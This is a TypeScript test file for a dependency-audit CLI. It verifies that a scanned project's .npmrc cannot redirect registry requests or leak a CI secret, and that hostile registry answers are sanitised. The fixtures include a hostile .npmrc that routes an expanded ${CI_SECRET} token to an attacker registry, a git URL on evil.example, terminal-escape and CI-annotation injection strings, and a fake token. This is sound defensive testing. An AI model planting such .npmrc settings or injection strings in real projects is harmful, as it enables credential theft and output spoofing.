// The scanned repository does not steer the network (issue 9): its .npmrc does not choose the
// registry, credentials, proxy or CA, variables are never expanded from it, and what a registry
// answers is validated before it reaches a config, the lock, the cache or the terminal. Real CLI
// processes against real HTTP registries on 127.0.0.1 that record every request header.
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { REPO } from "../cli/run.js";
import { closedPort, startRegistry, type FakeRegistry, type RecordedRequest } from "../registry/server.js";
import { built, expectClean, expectNoSecret, project, removeProjects, runCliAsync, snapshot, type BoundedRun } from "./run.js";

const CI_SECRET = "ci-secret-Zq81nBv0LkP4wX9";
const TOKEN = "ghp_6fiXkmQ8YbScxIWmZMCIenoJ7e4007TwzNFu";
const ANSWERS = JSON.parse(fs.readFileSync(path.join(REPO, "fixtures/hostile/registry/answers.json"), "utf8")) as {
  packuments: Record<string, Record<string, unknown> & { name: string; versions: Record<string, Record<string, unknown>> }>;
  advisories: Record<string, unknown[]>;
};

let user: FakeRegistry; // the registry the user's own ~/.npmrc names
let attacker: FakeRegistry; // the one the scanned repository's .npmrc names
beforeAll(async () => {
  [user, attacker] = await Promise.all([startRegistry(), startRegistry()]);
  for (const [name, doc] of Object.entries(ANSWERS.packuments)) user.docs.set(name, doc);
});
afterAll(async () => {
  await Promise.all([user.close(), attacker.close()]);
  removeProjects();
});
beforeEach(() => {
  user.reset();
  attacker.reset();
  delete user.advisories;
});

const hostOf = (r: FakeRegistry) => r.url.replace(/^http:\/\//, "").replace(/\/$/, "");

/** A home folder whose ~/.npmrc names the user's registry; the environment holds a CI secret. */
function userEnv(home: string, extra: Record<string, string> = {}): Record<string, string> {
  fs.mkdirSync(home, { recursive: true });
  fs.writeFileSync(path.join(home, ".npmrc"), `registry=${user.url}\n`);
  return {
    HOME: home,
    npm_config_userconfig: path.join(home, ".npmrc"),
    npm_config_globalconfig: path.join(home, "no-global-npmrc"),
    npm_config_fetch_retries: "0",
    MCP_AUDIT_CACHE_DIR: path.join(home, "cache"),
    CI_SECRET,
    ...extra,
  };
}

/** What the scanned repository's .npmrc says: everything an attacker would want mcp-audit to use. */
function hostileNpmrc(withProxy: boolean): string {
  const host = hostOf(attacker);
  return [
    `registry=${attacker.url}`,
    `//${host}/:_authToken=\${CI_SECRET}`,
    `//${host}/:_auth=\${CI_SECRET}`,
    `@angular:registry=${attacker.url}`,
    ...(withProxy ? [`https-proxy=${attacker.url}`, `proxy=${attacker.url}`, "strict-ssl=false"] : []),
    "",
  ].join("\n");
}

const CONFIG = JSON.stringify({ mcpServers: { angular: { command: "npx", args: ["-y", "@angular/cli@latest", "mcp", "--read-only"] } } }, null, 2);

function carries(requests: RecordedRequest[], secret: string): boolean {
  return requests.some((r) => r.path.includes(secret) || Object.values(r.headers).some((v) => (Array.isArray(v) ? v.join(" ") : String(v ?? "")).includes(secret)));
}

function setup(withProxy = true) {
  const dir = project({ ".mcp.json": CONFIG, "package.json": "{}\n", ".npmrc": hostileNpmrc(withProxy) });
  const home = `${dir}-home`;
  return { dir, home, env: userEnv(home) };
}

function check(r: BoundedRun, code: number, dirs: string[]): void {
  expectClean(r, { code, maxMs: 20_000 });
  expectNoSecret(r, [CI_SECRET], dirs);
}

describe.runIf(built())("a project .npmrc does not steer mcp-audit (real process, registries on 127.0.0.1)", () => {
  for (const args of [["--fix", "."], ["--online", "--rule", "young-release=off", "."], ["approve", "."]]) {
    it(`${args.join(" ")}: asks the user's registry, never the project's, and no request carries the secret`, async () => {
      const { dir, home, env } = setup();
      const r = await runCliAsync(args, { cwd: dir, env, network: true });
      check(r, args[0] === "--online" ? 1 : 0, [dir, home]);
      expect(attacker.requests).toEqual([]);
      expect(user.requests.map((q) => q.name)).toContain("@angular/cli");
      expect(carries(user.requests, CI_SECRET)).toBe(false);
      // One notice line says what was ignored and how to trust it.
      const notice = `${r.stdout}${r.stderr}`.split("\n").filter((l) => l.includes("ignored the registry"));
      expect(notice).toHaveLength(1);
      expect(notice[0]).toContain("ignored the registry, scoped registries, credentials, a proxy and TLS settings set in the project's .npmrc");
      expect(notice[0]).toContain("--trust-project-npmrc");
      if (args[0] === "--fix") expect(fs.readFileSync(path.join(dir, ".mcp.json"), "utf8")).toContain('"@angular/cli@22.1.8"');
    });
  }

  it("--trust-project-npmrc (or MCP_AUDIT_TRUST_PROJECT_NPMRC=1) uses the project's registry, still without expanding variables", async () => {
    const { dir, home, env } = setup(false);
    const flag = await runCliAsync(["--fix", "--trust-project-npmrc", "."], { cwd: dir, env, network: true });
    check(flag, 0, [dir, home]);
    expect(attacker.requests.map((q) => q.name)).toContain("@angular/cli");
    expect(user.requests).toEqual([]);
    expect(carries(attacker.requests, CI_SECRET)).toBe(false);
    expect(attacker.requests.every((q) => q.authorization === undefined)).toBe(true);
    expect(flag.stdout).toContain("names environment variables, which are never expanded from a project .npmrc");

    attacker.reset();
    const fromEnv = await runCliAsync(["approve", "."], { cwd: dir, env: { ...env, MCP_AUDIT_TRUST_PROJECT_NPMRC: "1" }, network: true });
    check(fromEnv, 0, [dir, home]);
    expect(attacker.requests.map((q) => q.name)).toContain("@angular/cli");
    expect(carries(attacker.requests, CI_SECRET)).toBe(false);
  });

  it("the user's own ~/.npmrc still expands variables (it is the user's file) and sends its token to its own registry", async () => {
    const { dir, home, env } = setup();
    fs.writeFileSync(path.join(home, ".npmrc"), `registry=${user.url}\n//${hostOf(user)}/:_authToken=\${CI_SECRET}\n`);
    const r = await runCliAsync(["--fix", "."], { cwd: dir, env, network: true });
    expectClean(r, { code: 0, maxMs: 20_000 });
    expect(user.requests.every((q) => q.authorization === `Bearer ${CI_SECRET}`)).toBe(true);
    expect(attacker.requests).toEqual([]);
  });
});

describe.runIf(built())("registry answers are validated before use (real process, hostile answers on 127.0.0.1)", () => {
  const launches = (names: string[]) => JSON.stringify({ mcpServers: Object.fromEntries(names.map((n, i) => [`s${i}`, { command: "npx", args: ["-y", n] }])) }, null, 2);

  it("a latest tag naming a git URL or holding ESC sequences is never written, by --fix or --fix=all, and is reported as unusable", async () => {
    const dir = project({ ".mcp.json": launches(["evil-latest@latest", "evil-latest", "esc-version@latest", "token-tag@latest"]) });
    const home = `${dir}-home`;
    const env = userEnv(home);
    const before = snapshot(dir);
    for (const fix of ["--fix", "--fix=all"]) {
      const r = await runCliAsync([fix, "."], { cwd: dir, env, network: true });
      check(r, 1, [dir, home]);
      expectNoSecret(r, [TOKEN], [dir]);
      expect(snapshot(dir)).toEqual(before);
      const lines = r.stdout.split("\n");
      const unusable = (name: string) => lines.filter((l) => l.includes(`runs ${name}`) && l.includes(`the registry's answer for latest on ${hostOf(user)} is unusable`) && l.includes("nothing was pinned from it"));
      expect(unusable("evil-latest@latest")).toHaveLength(1);
      expect(unusable("evil-latest with no version")).toHaveLength(1);
      expect(unusable("esc-version@latest")).toHaveLength(1);
      expect(unusable("token-tag@latest")).toHaveLength(1);
      expect(r.stdout).toContain('it names "git+https://evil.example/x.git#main", which is not a version');
      expect(r.stdout).not.toContain("fixed");
    }
  });

  it("--online: deprecation text, install scripts and advisory titles reach messages escaped; a misnamed answer is a clean warning", async () => {
    user.advisories = ANSWERS.advisories;
    const dir = project({ ".mcp.json": launches(["hostile-text@2.0.0", "renamed@1.0.0"]) });
    const home = `${dir}-home`;
    for (const format of ["stylish", "json", "sarif", "github"]) {
      const r = await runCliAsync(["--online", "--rule", "young-release=off", "--format", format, "."], { cwd: dir, env: userEnv(home), network: true });
      check(r, 1, [dir, home]);
      // (the HTTP cache keeps the registry's own bytes, token included: what mcp-audit writes is checked)
      expectNoSecret(r, [TOKEN], [dir, path.join(home, "cache", "advisories")]);
      if (format === "json" || format === "sarif") JSON.parse(r.stdout);
      if (format === "stylish") {
        expect(r.stdout).toContain('which is deprecated ("moved [2J ::error::pwned gnp.exe ghp_… (40 chars)")');
        expect(r.stdout).toContain("bad ]0;pwned ::error::x");
        expect(r.stdout).toMatch(/could not look up renamed on 127\.0\.0\.1:\d+ \(its answer is not package metadata: the answer describes "other \[2J x+…", not renamed\)/);
      }
      if (format === "github") for (const line of r.stdout.trimEnd().split("\n")) expect(line).toMatch(/^(::(error|warning|notice) [^\n]*::[^\n]*|mcp-audit: [^\n]*)$/);
    }
  });

  it("approve records only exact versions with well-formed integrity, and prints a token used as a dist-tag redacted", async () => {
    const dir = project({ ".mcp.json": launches(["hostile-text@latest", "evil-latest@next", "esc-version@latest", `mcp-remote@${TOKEN}`]) });
    const home = `${dir}-home`;
    const r = await runCliAsync(["approve", "."], { cwd: dir, env: userEnv(home), network: true });
    check(r, 0, [dir, home]);
    expectNoSecret(r, [TOKEN], []);
    expect(fs.readFileSync(path.join(dir, "mcp-audit.lock.json"), "utf8")).not.toContain(TOKEN);
    const lock = JSON.parse(fs.readFileSync(path.join(dir, "mcp-audit.lock.json"), "utf8")) as { packages: Record<string, { version: string; integrity?: string }> };
    expect(lock.packages["npm:hostile-text"]).toMatchObject({ version: "2.0.0" });
    expect(lock.packages["npm:hostile-text"]!.integrity).toBeUndefined();
    expect(lock.packages["npm:evil-latest"]).toMatchObject({ version: "1.0.0", integrity: `sha512-${"b".repeat(86)}==` });
    expect(lock.packages["npm:esc-version"]).toBeUndefined();
    expect(r.stdout).toContain("mcp-remote@ghp_… (40 chars) has no exact version to record");
  });

  it("registry errors never show the credentials of a registry URL", async () => {
    const port = await closedPort();
    const dir = project({ ".mcp.json": CONFIG });
    const home = `${dir}-home`;
    const env = userEnv(home);
    fs.writeFileSync(path.join(home, ".npmrc"), `registry=http://deploy:${CI_SECRET}@127.0.0.1:${port}/${TOKEN}/\n`);
    for (const args of [["--online", "."], ["approve", "."], ["--fix", "."]]) {
      const r = await runCliAsync(args, { cwd: dir, env, network: true });
      expectClean(r, { code: args[0] === "approve" ? 0 : 1, maxMs: 20_000 });
      expectNoSecret(r, [CI_SECRET, TOKEN], [dir, path.join(home, "cache")]);
      expect(`${r.stdout}${r.stderr}`).toMatch(/could not look up @angular\/cli on 127\.0\.0\.1:\d+\/ghp_… \(40 chars\) \(unreachable: ECONNREFUSED\)/);
    }
  });
});
